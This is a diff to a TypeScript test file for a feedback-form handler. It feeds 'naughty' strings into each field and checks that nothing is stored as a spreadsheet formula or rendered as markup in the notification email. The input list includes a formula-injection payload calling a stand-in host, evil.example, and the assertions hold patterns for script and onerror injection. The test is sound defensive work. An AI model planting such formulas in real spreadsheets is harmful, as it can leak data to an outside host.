@@ -6,6 +6,8 @@ import fc from 'fast-check';
 import { newBox, payload } from '../../sandbox/box';
 import type { FakeHtmlOutput } from '../../sandbox/fakes/script';
 import { cleanLine, cleanMultiline } from '../../src/core/text';
+import { normalizePhone } from '../../src/core/validate';
+import type { SubmitResult } from '../../src/shared/types';
 
 const NAUGHTY = [
   '=IMPORTXML("http://evil.example/x","//a")',
@@ -52,7 +54,7 @@ function longText(n: number): string {
   return unit.repeat(Math.ceil(n / unit.length)).slice(0, n);
 }
 
-test('every naughty string in every field: no throw, no formula, stored exactly as cleaned, escaped in the email', () => {
+test('every naughty string in every free-text field: no throw, no formula, stored exactly as cleaned, escaped in the email', () => {
   const sb = newBox();
   sb.world.gmail.dailyQuota = 100000;
   for (const bad of NAUGHTY) {
@@ -77,6 +79,35 @@ test('every naughty string in every field: no throw, no formula, stored exactly 
     // Escaped text may mention these words; no tag or attribute from input may appear.
     expect(mail.htmlBody).not.toMatch(/<script|<img|<a href="javascript|<[a-z]+ [^>]*onerror=/i);
   }
+});
+
+test('every naughty string in each of the other fields: a clear answer, never a throw, a formula or markup', () => {
+  const sb = newBox();
+  sb.world.gmail.dailyQuota = 100000;
+  const fields = ['phone', 'email', 'location', 'category', 'kind', 'requestId', 'website'] as const;
+  for (const field of fields) {
+    for (const bad of NAUGHTY) {
+      const rowsBefore = responsesRows(sb).values.length;
+      const res = sb.run<SubmitResult>('submitFeedback', [payload({ [field]: bad, name: 'Lan', consent: true })]).value;
+      const { values, formulas } = responsesRows(sb);
+      if (res.ok) {
+        // Only values that clean to something valid get in (e.g. a phone number); they are stored as literal text.
+        expect(values).toHaveLength(rowsBefore + 1);
+        expect(formulas.at(-1)!.every((f) => f === '')).toBe(true);
+        if (field === 'phone') expect(values.at(-1)![9]).toBe(normalizePhone(bad));
+        continue;
+      }
+      expect(values).toHaveLength(rowsBefore);
+      expect(res.errors.length).toBeGreaterThan(0);
+      for (const e of res.errors) {
+        expect(e.message).toMatch(/[ạ-ỹ]/); // Vietnamese, ready to show
+        expect(e.message).not.toContain(bad.trim() || '\u0000');
+        // A field-level message points at the field that was poisoned; bots get one neutral message.
+        if (e.field) expect(e.field).toBe(field === 'website' ? 'never' : field);
+      }
+    }
+  }
+  for (const mail of sb.world.gmail.sent) expect(mail.htmlBody).not.toMatch(/<script|<img|<a href="javascript|onerror=/i);
 });
 
 test('100 KB strings and a 1 MB payload are refused clearly, without a row', () => {
